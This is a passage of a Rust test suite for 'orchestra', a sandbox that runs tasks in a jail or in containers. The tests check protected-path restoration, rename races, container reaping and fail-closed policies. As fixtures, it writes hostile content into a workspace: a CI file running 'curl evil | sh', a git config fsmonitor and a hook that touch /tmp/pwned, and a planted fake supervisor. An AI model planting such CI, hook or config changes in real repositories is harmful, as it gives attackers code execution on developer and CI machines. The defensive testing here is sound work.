    std::fs::set_permissions(ws.join(".git/hooks/pre-commit"), std::os::unix::fs::PermissionsExt::from_mode(0o755))
        .unwrap();
    if b.container() {
        chown_tree(ws, 1000);
    }
    c
}

/// Content, mode and owner of each of `paths` below `ws`.
fn state(ws: &std::path::Path, paths: &[&str]) -> Vec<(Vec<u8>, u32, u32)> {
    use std::os::unix::fs::MetadataExt;
    paths
        .iter()
        .map(|p| {
            let m = std::fs::symlink_metadata(ws.join(p)).unwrap_or_else(|e| panic!("{p}: {e}"));
            assert!(m.is_file(), "{p} is no longer a file");
            (std::fs::read(ws.join(p)).unwrap(), m.mode() & 0o7777, m.uid())
        })
        .collect()
}

/// SECURITY.md §5.3: a protected path that EXISTS when the task starts is
/// byte for byte what it was once the task is gone, whatever a task racing
/// the supervisor does. The racer renames a prepared file over it through a
/// name another thread rewrites, one byte, from a benign name while the call
/// waits on the supervisor (`on_violation: deny`: it tries again after every
/// refusal). Where a read-only bind pins the file (the jail with namespaces,
/// the engines' volumes) the kernel refuses the rename whatever the
/// supervisor said. Without namespaces the supervisor alone judges it and
/// the racer wins often; the host's check after the task finds the file
/// changed and puts it back: exit 4, `fs.protected`, "restored". The
/// plain rename (no race) is the supervisor's refusal, as before.
fn an_existing_protected_path_is_unchanged_whatever_the_race(b: Backend) {
    let names: Vec<&str> = EXISTING.iter().map(|(t, _)| *t).collect();
    for &f in flavours(b) {
        for (target, pos) in EXISTING {
            let c = existing_case(b, "race-kept");
            let policy = c.flavoured(f, "deny", "on_violation: deny\n");
            let before = state(&c.e.ws, &names);
            let mut argv = vec!["./race", "stage-ci", target, "3000"];
            argv.extend(pos);
            let o = c.run_flavoured(f, &policy, &argv);
            o.assert_violation("fs.protected");
            assert_eq!(state(&c.e.ws, &names), before, "{} {f:?}: {target} changed\n{}", b.name(), o.all());
            let won = o.stdout.contains("ESCAPED");
            if won {
                assert_eq!(f, Flavour::NamespaceLess, "{}: a read-only bind was replaced\n{}", b.name(), o.all());
                let d = details(&o);
                assert!(
                    d.contains(", a protected path, was changed during the task: ") && d.contains("; restored"),
                    "{d}"
                );
            }
        }
        // No race: the supervisor refuses the plain rename.
        let c = existing_case(b, "norace-kept");
        let policy = c.flavoured(f, "deny", "on_violation: deny\n");
        let before = state(&c.e.ws, &names);
        let o = c.run_flavoured(f, &policy, &["./race", "stage-ci", ".gitlab-ci.yml", "0"]);
        o.assert_violation("fs.protected");
        assert!(o.stdout.contains("blocked rename without a race"), "{}", o.all());
        assert!(!details(&o).contains("was changed during the task"), "{}", details(&o));
        assert_eq!(state(&c.e.ws, &names), before);
    }
}

/// A protected path changed while the task runs — here by the test itself,
/// standing for a write that got past the supervisor — is found changed once
/// the task is gone, on every backend and flavour: exit 4, `fs.protected`,
/// the detail says what changed and "restored", each file is back byte for
/// byte with its mode and owner, the hook added is gone, and the violation is
/// in the audit log.
fn a_protected_path_changed_during_the_task_is_reported_and_restored(b: Backend) {
    use std::os::unix::fs::PermissionsExt;
    let names = [".gitlab-ci.yml", ".git/config", ".git/hooks/pre-commit"];
    for &f in flavours(b) {
        let c = existing_case(b, "changed-kept");
        let ws = &c.e.ws;
        let policy = c.flavoured(f, "plain", "");
        let before = state(ws, &names);
        let mut args = vec!["--backend", b.name(), "--name", &c.name];
        args.extend(policy.1.iter().map(String::as_str));
        let script =
            "touch started; i=0; while [ ! -e go ] && [ $i -lt 600 ]; do sleep 0.1; i=$((i+1)); done; echo built > out";
        let mut cmd = c.e.cmd(&policy.0, &args, &["/bin/sh", "-c", script]);
        let _ = std::fs::remove_file(c.e.root.join("report.json"));
        let child = cmd.stdout(std::process::Stdio::piped()).stderr(std::process::Stdio::piped()).spawn().unwrap();
        let t0 = std::time::Instant::now();
        while !ws.join("started").exists() {
            assert!(t0.elapsed() < Duration::from_secs(120), "{} {f:?}: the task never started", b.name());
            std::thread::sleep(Duration::from_millis(20));
        }
        // In place, by rename, a mode, a new hook.
        std::fs::write(ws.join(".gitlab-ci.yml"), "test:\n  script: curl evil | sh\n").unwrap();
        std::fs::write(ws.join("cfg.new"), "[core]\n\tfsmonitor = touch /tmp/pwned\n").unwrap();
        std::fs::rename(ws.join("cfg.new"), ws.join(".git/config")).unwrap();
        std::fs::set_permissions(ws.join(".git/hooks/pre-commit"), std::fs::Permissions::from_mode(0o777)).unwrap();
        std::fs::write(ws.join(".git/hooks/post-checkout"), "#!/bin/sh\ntouch /tmp/pwned\n").unwrap();
        std::fs::write(ws.join("go"), "").unwrap();
        let o = Out::with_report(child.wait_with_output().unwrap(), Some(&c.e.root.join("report.json")));
        o.assert_violation("fs.protected");
        assert_eq!(state(ws, &names), before, "{} {f:?}\n{}", b.name(), o.all());
        assert!(!ws.join(".git/hooks/post-checkout").exists(), "{} {f:?}", b.name());
        assert_eq!(std::fs::read_to_string(ws.join("out")).unwrap(), "built\n", "the task's own work stays");
        let d = details(&o);
        for part in [
            ".gitlab-ci.yml, a protected path, was changed during the task: content changed (sha256 ",
            ".git/config, a protected path, was changed during the task: content changed",
            ".git/hooks, a protected path, was changed during the task: post-checkout: added; pre-commit: mode 0755 → 0777; restored",
        ] {
            assert!(d.contains(part), "{} {f:?}: {part}\n{d}", b.name());
        }
        let shown = Command::new(orchestra())
            .args(["audit", "show", "--json", "--kind", "violation"])
            .arg(c.audit_dir(f))
            .output()
            .unwrap();
        assert!(String::from_utf8_lossy(&shown.stdout).contains("was changed during the task"), "{} {f:?}", b.name());
        if b.container() {
            assert!(containers_left(b.name(), &format!("orchestra.task={}", c.name)).is_empty());
        }
    }
}

/// A build's git work in a repository whose protected paths exist — commit,
/// a new branch, gc — is no violation and is kept, on every backend and
/// without namespaces: the host's check finds the protected paths as they
/// were. On the container backends git is the host's (`orchestra-build:2`
/// with `/usr`).
fn real_git_work_beside_existing_protected_paths_is_no_violation(b: Backend) {
    for &f in flavours(b) {
        let c = case(b, "git-kept");
        let ws = &c.e.ws;
        let git = |args: &[&str]| {
            let o = Command::new("git")
                .args(["-c", "user.email=t@example.org", "-c", "user.name=t", "-c", "safe.directory=*"])
                .args(args)
                .current_dir(ws)
                .output()
                .expect("git is required");
            assert!(o.status.success(), "git {args:?}: {}", String::from_utf8_lossy(&o.stderr));
            String::from_utf8_lossy(&o.stdout).into_owned()
        };
        git(&["init", "-q", "."]);
        std::fs::write(ws.join("README"), "hello\n").unwrap();
        std::fs::write(ws.join(".gitignore"), ".orchestra/\nattack\n").unwrap();
        std::fs::write(ws.join(".gitlab-ci.yml"), "test:\n  script: make test\n").unwrap();
        git(&["add", "README", ".gitignore", ".gitlab-ci.yml"]);
        git(&["commit", "-qm", "init"]);
        if b.container() {
            chown_tree(ws, 1000);
        }
        let names = [".gitlab-ci.yml", ".git/config", ".git/hooks/pre-commit.sample", ".git/info/exclude"];
        let before = state(ws, &names);
        let yaml =
            if b.container() { "container:\n  image: orchestra-build:2\n  volumes: ['/usr:/usr']\n" } else { "" };
        let policy = c.flavoured(f, "git", yaml);
        let g = "git -c user.email=t@example.org -c user.name=t -c safe.directory=*";
        let script = format!(
            "set -e; export HOME=$PWD; echo more >> README; {g} commit -qam two; {g} checkout -qb feature; echo f > f; \
             {g} add f; {g} commit -qm three; {g} checkout -q -; {g} merge -q feature; {g} gc -q; {g} log --oneline | wc -l"
        );
        let o = c.run_flavoured(f, &policy, &["/bin/sh", "-c", &script]);
        o.assert_ok();
        assert_eq!(o.stdout.trim(), "3", "{} {f:?}", b.name());
        assert_eq!(state(ws, &names), before, "{} {f:?}", b.name());
        assert_eq!(git(&["log", "--oneline"]).lines().count(), 3, "the host sees the task's commits");
    }
}

/// `filesystem.unprotected` gives an existing path up to the task: changed by
/// it, it is no violation and the change stays (reported as an opt-out); the
/// paths not given up are still put back.
fn an_existing_path_given_up_with_unprotected_keeps_the_tasks_change(b: Backend) {
    for &f in flavours(b) {
        let c = existing_case(b, "unprotected-kept");
        let policy = c.flavoured(f, "ci", "filesystem:\n  unprotected: [.gitlab-ci.yml]\n");
        let config = std::fs::read(c.e.ws.join(".git/config")).unwrap();
        let o = c.run_flavoured(f, &policy, &["/bin/sh", "-c", "echo '  when: manual' >> .gitlab-ci.yml"]);
        o.assert_ok();
        assert!(o.report["opt_outs"].to_string().contains("filesystem.unprotected: .gitlab-ci.yml"), "{}", o.report);
        assert_eq!(
            std::fs::read_to_string(c.e.ws.join(".gitlab-ci.yml")).unwrap(),
            "test:\n  script: make test\n  when: manual\n",
            "{} {f:?}",
            b.name()
        );
        assert_eq!(std::fs::read(c.e.ws.join(".git/config")).unwrap(), config);
    }
}

/// Review 61, finding 1: with the audit log outside the workspace orchestra
/// makes no `.orchestra/` there, so `git stash -u` and `git clean -fdx` in a
/// task (each removes every untracked directory, an empty one too) do their
/// job: exit 0, no violation. An absent `.orchestra/` is still protected
/// against creation, where a later run would trust a planted `config.yaml`:
/// made plainly or by a racer, it is `fs.protected` and gone afterwards.
fn git_clean_and_stash_untracked_beside_no_dot_orchestra_are_no_violation(b: Backend) {
    for &f in flavours(b) {
        let c = race_case(b, "git-clean");
        let ws = &c.e.ws;
        std::fs::remove_dir_all(ws.join(".orchestra")).unwrap();
        std::fs::remove_dir_all(ws.join(".git")).unwrap();
        let git = |args: &[&str]| {
            let o = Command::new("git")
                .args(["-c", "user.email=t@example.org", "-c", "user.name=t", "-c", "safe.directory=*"])
                .args(args)
                .current_dir(ws)
                .output()
                .expect("git is required");
            assert!(o.status.success(), "git {args:?}: {}", String::from_utf8_lossy(&o.stderr));
            String::from_utf8_lossy(&o.stdout).into_owned()
        };
        git(&["init", "-q", "."]);
        std::fs::write(ws.join("README"), "hello\n").unwrap();
        std::fs::write(ws.join(".gitignore"), "build/\n").unwrap();
        git(&["add", "README", ".gitignore"]);
        git(&["commit", "-qm", "init"]);
        if b.container() {
            chown_tree(ws, 1000);
        }
        let yaml =
            if b.container() { "container:\n  image: orchestra-build:2\n  volumes: ['/usr:/usr']\n" } else { "" };
        let (policy, mut extra) = c.flavoured(f, "git", yaml);
        if f == Flavour::Default {
            extra = vec!["--audit-dir".to_string(), c.e.root.join("audit-elsewhere").display().to_string()];
        }
        let policy = (policy, extra);
        let g = "git -c user.email=t@example.org -c user.name=t -c safe.directory=*";
        let script = format!(
            "set -e; export HOME=$PWD; echo u > untracked.txt; mkdir -p build && echo o > build/out.o; \
             {g} stash -q -u; test ! -e untracked.txt; {g} stash pop -q >/dev/null; test -f untracked.txt; \
             {g} clean -fdxq; {g} status --porcelain --ignored | wc -l"
        );
        let o = c.run_flavoured(f, &policy, &["/bin/sh", "-c", &script]);
        o.assert_ok();
        assert!(o.rules().is_empty(), "{} {f:?}: {:?}", b.name(), o.rules());
        assert_eq!(o.stdout.trim(), "0", "{} {f:?}: something untracked is left", b.name());
        for gone in ["untracked.txt", "build", "race", "stage-ci", ".orchestra"] {
            assert!(std::fs::symlink_metadata(ws.join(gone)).is_err(), "{} {f:?}: {gone} is left", b.name());
        }
        assert!(git(&["stash", "list"]).is_empty(), "{} {f:?}: the stash was not popped", b.name());

        // Planting it is refused, and what a racer got past the supervisor is removed.
        std::fs::copy(race_static(), ws.join("race")).unwrap();
        std::fs::create_dir_all(ws.join("stage-dot")).unwrap();
        std::fs::write(ws.join("stage-dot/config.yaml"), "version: 1\n").unwrap();
        if b.container() {
            chown_tree(ws, 1000);
        }
        let o = c.run_flavoured(
            f,
            &policy,
            &["/bin/sh", "-c", "mkdir .orchestra; echo 'version: 1' > .orchestra/config.yaml"],
        );
        o.assert_violation("fs.protected");
        assert!(std::fs::symlink_metadata(ws.join(".orchestra")).is_err(), "{} {f:?}: .orchestra is left", b.name());
        let deny = c.flavoured(f, "deny", "on_violation: deny\n");
        let deny = (deny.0, policy.1.clone());
        let o = c.run_flavoured(f, &deny, &["./race", "stage-dot", ".orchestra"]);
        o.assert_violation("fs.protected");
        assert!(
            std::fs::symlink_metadata(ws.join(".orchestra")).is_err(),
            "{} {f:?}: raced, .orchestra is left\n{}",
            b.name(),
            o.all()
        );
    }
}

/// Test suites that drive programs through a pseudo-terminal (pexpect,
/// ptyprocess, `script`) open /dev/ptmx: every backend gives the task a
/// devpts instance of its own (the jail's, or the container's: the engine
/// makes one per container), so the pair opens and works — exit 0, no
/// violation (sweep 88: ptyprocess was a false `fs.write` on /dev/ptmx).
/// Stopping its output and taking it exclusively (sweep 89, pexpect) are
/// performed by the supervisor on the descriptor it takes from the task
/// (attack review 90, H1): they work too.
fn a_pseudo_terminal_pair_opens_and_works(b: Backend) {
    let c = case(b, "pty");
    c.with_static("pty_open");
    let o = c.run("default", &["./pty_open"]);
    o.assert_ok();
    assert_eq!(o.stdout, "pty /dev/pts/0 4\n", "{}: {}", b.name(), o.all());
}

/// File handles: making one (name_to_handle_at) needs no privilege and opens
/// nothing — golang.org/x/sys/unix's tests call it (sweep 89: a false
/// `syscall.file_handles`); opening by one (open_by_handle_at) bypasses the
/// path checks and stays denied: exit 4 `syscall.file_handles`, no
/// descriptor.
fn a_file_handle_is_made_but_never_opened(b: Backend) {
    let c = case(b, "handles");
    c.with_static("handles");
    let o = c.run("default", &["./handles"]);
    o.assert_ok();
    assert_eq!(o.stdout, "handle ok\n", "{}: {}", b.name(), o.all());
    let o = c.run("default", &["./handles", "open"]);
    assert_eq!(o.code, 4, "{}: {}", b.name(), o.all());
    o.assert_violation("syscall.file_handles");
    assert!(!o.stdout.contains("OPENED"), "{}: {}", b.name(), o.stdout);
}

macro_rules! conformance {
    ($($case:ident),* $(,)?) => {
        mod jail { $( #[test] fn $case() { super::$case(super::Backend::Jail) } )* }
        mod docker { $( #[test] fn $case() { super::$case(super::Backend::Docker) } )* }
        mod podman { $( #[test] fn $case() { super::$case(super::Backend::Podman) } )* }
    };
}

conformance!(
    protected_paths_in_the_workspace_are_kept,
    a_protected_path_absent_at_the_start_stays_absent_whatever_the_race,
    a_link_that_makes_an_absent_protected_path_reachable_is_removed,
    work_beside_absent_protected_paths_is_kept,
    git_discovery_cannot_be_redirected,
    an_existing_protected_path_is_unchanged_whatever_the_race,
    a_protected_path_changed_during_the_task_is_reported_and_restored,
    real_git_work_beside_existing_protected_paths_is_no_violation,
    an_existing_path_given_up_with_unprotected_keeps_the_tasks_change,
    git_clean_and_stash_untracked_beside_no_dot_orchestra_are_no_violation,
    one_off_path_flags_take_effect,
    benign_script_runs_and_writes_the_workspace,
    output_is_relayed_whole_and_in_order,
    a_failing_task_is_failed_not_a_violation,
    writing_outside_the_workspace_is_blocked_and_reported,
    writing_dot_orchestra_is_blocked_and_reported,
    egress_to_a_host_listener_is_blocked_and_reported,
    ptrace_is_blocked_and_reported,
    mount_is_blocked_and_reported,
    unshare_is_blocked_and_reported,
    bpf_is_blocked_and_reported,
    io_uring_is_blocked_and_reported,
    an_io_uring_probe_gets_enosys_without_a_violation,
    keyring_is_blocked_and_reported,
    memory_hog_is_stopped_and_reported,
    fork_bomb_is_stopped_and_reported,
    output_flood_is_cut_and_reported,
    the_wall_clock_timeout_exits_3_and_kills_daemons,
    a_canary_read_just_before_the_wall_timeout_is_reported_and_recorded,
    a_plain_sleep_past_the_wall_timeout_exits_3_without_a_violation,
    a_violation_the_task_survived_is_kept_when_it_later_times_out,
    a_violation_judged_before_a_timeout_survives_long_final_checks,
    the_orchestrators_environment_never_reaches_the_task,
    setuid_files_are_blocked_and_reported,
    a_pseudo_terminal_pair_opens_and_works,
    a_file_handle_is_made_but_never_opened,
);

/// The engine's containers are all gone once orchestra is done, including one
/// whose orchestra was SIGKILLed mid-task: the next run reaps it.
#[test]
fn a_killed_orchestra_leaves_no_container_after_the_next_run() {
    for b in [Backend::Docker, Backend::Podman] {
        let c = case(b, "killed");
        let mut cmd = c.e.cmd("default", &["--backend", b.name(), "--name", &c.name], &["sleep", "60"]);
        container_setup();
        let mut child = cmd.spawn().unwrap();
        let label = format!("orchestra.task={}", c.name);
        let t0 = std::time::Instant::now();
        while containers_labelled(b.name(), &label).is_empty() {
            assert!(t0.elapsed() < Duration::from_secs(20), "{}: the container never appeared", b.name());
            std::thread::sleep(Duration::from_millis(50));
        }
        child.kill().unwrap();
        child.wait().unwrap();
        assert!(!containers_labelled(b.name(), &label).is_empty(), "SIGKILL should leave it for the reaper");
        let o = c.run("default", &["true"]);
        o.assert_ok();
        assert!(containers_left(b.name(), &label).is_empty(), "{}: the orphan was not reaped", b.name());
    }
}

/// The deadline lives with the container: with orchestra unable to act (stopped,
/// then `kill -9`), the in-container supervisor still ends the task soon after
/// `--timeout` (issue 15, item 7), instead of letting it write the workspace
/// until some later reap.
#[test]
fn a_killed_orchestras_container_task_still_ends_at_its_deadline() {
    for b in [Backend::Docker, Backend::Podman] {
        let c = case(b, "deadline");
        let script = "i=0; while :; do i=$((i+1)); echo $i > beat; sleep 0.2; done";
        let mut cmd =
            c.e.cmd("default", &["--backend", b.name(), "--name", &c.name, "--timeout", "3s"], &["sh", "-c", script]);
        container_setup();
        let started = std::time::Instant::now();
        let mut child = cmd.spawn().unwrap();
        let beat = c.e.ws.join("beat");
        while !beat.exists() {
            assert!(started.elapsed() < Duration::from_secs(20), "{}: the task never started", b.name());
            std::thread::sleep(Duration::from_millis(50));
        }
        // Orchestra is stopped, not yet killed: it can no longer end the task, and
        // its container is not an orphan for the other orchestras of this suite,
        // which run at the same time and would reap a dead owner's container
        // before its deadline.
        let pid = nix::unistd::Pid::from_raw(child.id() as i32);
        nix::sys::signal::kill(pid, nix::sys::signal::Signal::SIGSTOP).unwrap();
        // The task beats every 0.2 s until the in-container deadline (3 s + 2 s of
        // grace from the supervisor's start, which a loaded engine may delay): it
        // must fall silent, long before it would without one (the script never ends).
        let mut last = std::fs::read_to_string(&beat).unwrap_or_default();
        let mut quiet_since = std::time::Instant::now();
        while quiet_since.elapsed() < Duration::from_millis(1500) {
            let late = started.elapsed() > Duration::from_secs(30);
            assert!(!late, "{}: the task still writes the workspace long past its deadline", b.name());
            std::thread::sleep(Duration::from_millis(250));
            let now = std::fs::read_to_string(&beat).unwrap_or_default();
            if now != last {
                last = now;
                quiet_since = std::time::Instant::now();
            }
        }
        assert!(started.elapsed() > Duration::from_secs(3), "{}: it stopped before its deadline", b.name());
        child.kill().unwrap();
        child.wait().unwrap();
        // Whatever the engine still lists is reaped by the next run.
        c.run("default", &["true"]).assert_ok();
    }
}

/// Two orchestras in different PID namespaces (CI jobs in containers sharing
/// the host's engine socket): a PID from the other namespace means nothing
/// here, so its running container is never reaped as an orphan (issue 15, item 6).
#[test]
fn a_container_owned_from_another_pid_namespace_is_not_reaped() {
    let boot = std::fs::read_to_string("/proc/sys/kernel/random/boot_id").unwrap();
    for b in [Backend::Docker, Backend::Podman] {
        let c = case(b, "other-pidns");
        // A PID that does not exist here, in a namespace that is not ours.
        let owner_label = format!("orchestra.owner={}/{}/1/pid:[1]", boot.trim(), u32::MAX - 2);
        let task = format!("orchestra.task={}-theirs", c.name);
        let mut cli = Command::new(b.name());
        if b == Backend::Podman {
            cli.args(["--runtime", "runc", "--cgroup-manager", "cgroupfs"]);
        }
        let o = cli
            .args(["run", "-d", "--label", "orchestra.managed=1", "--label", &owner_label, "--label", &task])
            .args(["--network", "none", "--ulimit", "nproc=4096:4096", "--ulimit", "nofile=1024:1024"])
            .args(["orchestra-task:1", "sleep", "60"])
            .output()
            .unwrap();
        assert!(o.status.success(), "{}: {}", b.name(), String::from_utf8_lossy(&o.stderr));
        let id = String::from_utf8_lossy(&o.stdout).trim().to_string();
        c.run("default", &["true"]).assert_ok(); // a run reaps orphans first
        let still = !containers_labelled(b.name(), &task).is_empty();
        let _ = Command::new(b.name()).args(["rm", "-f", &id]).output();
        assert!(still, "{}: another namespace's running container was reaped", b.name());
    }
}

/// A container that exited and was never removed (its orchestra died between
/// the two) is reaped by the next run on both engines, whatever else is in the
/// engine's list (Podman lists states the Docker API does not define).
#[test]
fn an_exited_orphan_is_reaped_by_the_next_run() {
    let boot = std::fs::read_to_string("/proc/sys/kernel/random/boot_id").unwrap();
    for b in [Backend::Docker, Backend::Podman] {
        let c = case(b, "exited-orphan");
        // The owner is alive while the container is made (other tests' runs,
        // in parallel, must not reap it before it is seen), then dies.
        let mut owner = Command::new("sleep").arg("60").spawn().unwrap();
        let stat = std::fs::read_to_string(format!("/proc/{}/stat", owner.id())).unwrap();
        let start = stat.rsplit_once(") ").unwrap().1.split_whitespace().nth(19).unwrap().to_string();
        let owner_label = format!("orchestra.owner={}/{}/{start}", boot.trim(), owner.id());
        let mut cli = Command::new(b.name());
        if b == Backend::Podman {
            cli.args(["--runtime", "runc", "--cgroup-manager", "cgroupfs"]);
        }
        let task = format!("orchestra.task={}", c.name);
        let o = cli
            .args(["run", "--label", "orchestra.managed=1", "--label", &owner_label, "--label", &task])
            .args(["--network", "none", "--ulimit", "nproc=4096:4096", "--ulimit", "nofile=1024:1024"])
            .args(["orchestra-task:1", "true"])
            .output()
            .unwrap();
        assert!(o.status.success(), "{}: {}", b.name(), String::from_utf8_lossy(&o.stderr));
        assert!(!containers_labelled(b.name(), &task).is_empty(), "the exited container exists");
        owner.kill().unwrap();
        owner.wait().unwrap();
        let o = c.run("default", &["true"]);
        o.assert_ok();
        assert!(containers_left(b.name(), &task).is_empty(), "{}: the exited orphan was not reaped", b.name());
    }
}

#[test]
fn no_engine_is_a_clear_exit_1() {
    let e = env();
    let mut c = e.cmd("default", &["--backend", "docker"], &["true"]);
    c.env("DOCKER_HOST", "unix:///nonexistent/docker.sock");
    let o = e.run_cmd(c);
    assert_eq!(o.code, 1, "{}", o.stderr);
    assert!(o.stderr.contains("no engine answered"), "{}", o.stderr);
    assert!(o.stderr.contains("/nonexistent/docker.sock"), "the message names the address: {}", o.stderr);
}

#[test]
fn a_root_owned_workspace_fails_closed_for_containers() {
    let e = env();
    let c = e.cmd("default", &["--backend", "docker"], &["touch", "ran"]);
    container_setup();
    let o = e.run_cmd(c);
    assert_eq!(o.code, 1, "{}", o.stderr);
    assert!(o.stderr.contains("not writable by the container's task user"), "{}", o.stderr);
    assert!(!e.ws.join("ran").exists());
}

#[test]
fn an_unenforceable_container_policy_fails_closed() {
    let e = env();
    chown_tree(&e.ws, 1000);
    let p = e.policy("hostnet", "network:\n  mode: host\n");
    let o = e.run_cmd(e.cmd(&p, &["--backend", "docker"], &["touch", "ran"]));
    assert_eq!(o.code, 1, "{}", o.stderr);
    assert!(o.stderr.contains("network.mode: host"), "{}", o.stderr);
    let p = e.policy("sock", "container:\n  volumes: ['/var/run/docker.sock:/var/run/docker.sock']\n");
    let o = e.run_cmd(e.cmd(&p, &["--backend", "docker"], &["touch", "ran"]));
    assert_eq!(o.code, 1, "{}", o.stderr);
    assert!(o.stderr.contains("engine's socket"), "{}", o.stderr);
    assert!(!e.ws.join("ran").exists());
}

#[test]
fn an_image_pin_that_does_not_match_fails_closed() {
    let e = env();
    chown_tree(&e.ws, 1000);
    container_setup();
    let p = e.policy("pin", &format!("container:\n  image_id: sha256:{}\n", "0".repeat(64)));
    let c = e.cmd(&p, &["--backend", "docker"], &["touch", "ran"]);
    let o = e.run_cmd(c);
    assert_eq!(o.code, 1, "{}", o.stderr);
    assert!(o.stderr.contains("pins"), "{}", o.stderr);
    assert!(!e.ws.join("ran").exists());
}

#[test]
fn containers_mount_the_built_in_supervisor_and_never_a_planted_one() {
    // The supervisor orchestra embeds is written below HOME's state directory
    // for the engine to mount. A file planted under its name (by a task, or an
    // older orchestra) is compared, replaced and never run.
    let e = env();
    chown_tree(&e.ws, 1000);
    container_setup();
    let o = e.run_cmd(e.cmd("default", &["--backend", "docker"], &["sh", "-c", "echo ok > ran"]));
    o.assert_ok();
    assert!(e.ws.join("ran").exists(), "{}", o.all());
    let dir = e.home.join(".local/state/orchestra/supervisor");
    let files: Vec<_> = std::fs::read_dir(&dir).unwrap().map(|f| f.unwrap().path()).collect();
    assert_eq!(files.len(), 1, "{files:?}");
    let built_in = std::fs::read(&files[0]).unwrap();
    // A "supervisor" that would run the task unsupervised and leave a mark.
    std::fs::remove_file(&files[0]).unwrap();
    std::fs::write(&files[0], "#!/bin/sh\ntouch /work/planted\nexit 0\n").unwrap();
    std::fs::set_permissions(&files[0], std::os::unix::fs::PermissionsExt::from_mode(0o555)).unwrap();
    let o = e.run_cmd(e.cmd("default", &["--backend", "docker"], &["sh", "-c", "echo x > /etc/x"]));
    o.assert_violation("fs.write");
    assert!(!e.ws.join("planted").exists(), "the planted supervisor ran\n{}", o.all());
    assert_eq!(std::fs::read(&files[0]).unwrap(), built_in, "the built-in supervisor was written back");
}

#[test]
fn a_volume_over_the_supervisor_directory_fails_closed() {
    // A task that could write there would choose a later container's supervisor.
    let e = env();
    chown_tree(&e.ws, 1000);
    container_setup();
    let state = e.home.join(".local/state");
    std::fs::create_dir_all(&state).unwrap();
    let p = e.policy("vol", &format!("container:\n  volumes: [\"{}:/state:rw\"]\n", state.display()));
    let o = e.run_cmd(e.cmd(&p, &["--backend", "docker"], &["touch", "ran"]));
    assert_eq!(o.code, 1, "{}", o.all());
    assert!(o.stderr.contains("supervisor directory"), "{}", o.stderr);
    assert!(!e.ws.join("ran").exists());
}

#[test]
fn a_supervisor_override_that_is_not_static_fails_closed() {
    let e = env();
    chown_tree(&e.ws, 1000);
    container_setup();
    let mut c = e.cmd("default", &["--backend", "docker"], &["touch", "ran"]);
    c.env(concat!("ORCHESTRA_", "SUPERVISOR_BIN"), "/bin/sh");
    let o = e.run_cmd(c);
    assert_eq!(o.code, 1, "{}", o.all());
    assert!(o.stderr.contains("is not a statically linked binary"), "{}", o.stderr);
    assert!(!e.ws.join("ran").exists());
}

#[test]
fn without_the_supervisor_denials_are_enforced_but_not_observed() {
    // SECURITY.md §10: container.supervisor: off leaves only the engine's
    // seccomp profile; ptrace fails with EPERM and nothing is reported.
    let c = case(Backend::Docker, "nosup");
    let p = c.policy("nosup", "container:\n  supervisor: off\n");
    let o = c.run(&p, &["./attack", "ptrace"]);
    assert_eq!(o.code, 0, "{}", o.stderr);
    assert!(o.stdout.contains("blocked"), "{}", o.stdout);
    assert!(!o.stdout.contains("ESCAPED"), "{}", o.stdout);
    assert!(o.report["opt_outs"].to_string().contains("container.supervisor: off"));
}

#[test]
fn the_container_runs_hardened() {
    let c = case(Backend::Docker, "hardened");
    let p = c.policy("nosup", "container:\n  supervisor: off\n");
    let o = c.sh(
        &p,
        "id -u; grep -E '^(CapEff|CapBnd|NoNewPrivs|Seccomp):' /proc/self/status; touch /rootfs-write 2>&1; true",
    );
    assert_eq!(o.code, 0, "{}", o.stderr);
    assert!(o.stdout.starts_with("1000\n"), "{}", o.stdout);
    assert!(o.stdout.contains("CapEff:\t0000000000000000"), "{}", o.stdout);
    assert!(o.stdout.contains("CapBnd:\t0000000000000000"), "{}", o.stdout);
    assert!(o.stdout.contains("NoNewPrivs:\t1"), "{}", o.stdout);
    assert!(o.stdout.contains("Seccomp:\t2"), "{}", o.stdout);
    assert!(o.stdout.contains("Read-only file system"), "{}", o.stdout);
}

#[test]
fn the_engine_socket_is_not_visible_in_the_container() {
    let c = case(Backend::Docker, "sock");
    let o = c.sh("default", "ls -d /var/run/docker.sock /run/docker.sock /run/podman 2>&1; true");
    o.assert_ok();
    assert_eq!(o.stdout.matches("No such file or directory").count(), 3, "{}", o.stdout);
}

/// `orchestra run` drives the container backends like the jail: each task in
/// its own container (none left), files flow through the workspace from one
/// task to the next, a violation in a later task is observed and ends the run
/// with exit 4, and a plan whose policy needs an absent engine is refused
/// before anything runs.
#[test]
fn a_plan_runs_each_task_in_its_own_container() {
    for b in [Backend::Docker, Backend::Podman] {
        let e = env();
        container_setup();
        chown_tree(&e.ws, 1000);
        let id = |t: &str| format!("{t}-{}-{}", b.name(), std::process::id());
        let (a, v) = (id("write"), id("net"));
        let policy = e.policy(&format!("run-{}", b.name()), &format!("version: 1\nsandbox_mode: {}\n", b.name()));
        let config = e.policy("run-config", "tools:\n  sh: {program: /bin/sh, shell: true, args: ['-c', '.*']}\n");
        let plan = e.root.join(format!("plan-{}.yaml", b.name()));
        std::fs::write(
            &plan,
            format!(
                "tasks:\n- {{id: {a}, tool: sh, args: ['-c', 'echo from-{a} > handoff.txt']}}\n\
                 - {{id: {v}, tool: sh, args: ['-c', 'cat handoff.txt; ./attack connect-ip 127.0.0.1 9'], needs: [{a}]}}\n"
            ),
        )
        .unwrap();
        std::fs::copy(attack_static(), e.ws.join("attack")).unwrap();
        chown_tree(&e.ws, 1000);
        let runs = e.root.join(format!("runs-{}", b.name()));
        let run = |extra: &[(&str, &str)]| {
            container_setup();
            let mut c = e.command();
            c.env("CI", "true")
                .args(["run"])
                .arg(&plan)
                .arg("--config")
                .arg(&config)
                .arg("--policy")
                .arg(&policy)
                .arg("--runs-dir")
                .arg(&runs);
            for (k, val) in extra {
                c.env(k, val);
            }
            c.output().expect("orchestra run")
        };
        let o = run(&[]);
        let stderr = String::from_utf8_lossy(&o.stderr).into_owned();
        assert_eq!(o.status.code(), Some(4), "{}: {stderr}", b.name());
        let run_dir = std::fs::read_dir(&runs).unwrap().flatten().map(|d| d.path()).find(|p| p.is_dir()).unwrap();
        let report: serde_json::Value =
            serde_json::from_slice(&std::fs::read(run_dir.join("report.json")).unwrap()).unwrap();
        let tasks = report["tasks"].as_array().unwrap();
        assert_eq!(tasks[0]["state"], "succeeded", "{report:#}");
        assert_eq!(tasks[0]["backend"], b.name(), "{report:#}");
        assert_eq!(tasks[1]["state"], "violation", "{report:#}");
        assert!(tasks[1]["violations"].to_string().contains("network."), "{report:#}");
        let log = std::fs::read_to_string(run_dir.join(format!("logs/{v}.log"))).unwrap();
        assert!(log.contains(&format!("from-{a}")), "the second container saw the first one's file: {log}");
        for t in [&a, &v] {
            let left = containers_left(b.name(), &format!("orchestra.task={t}"));
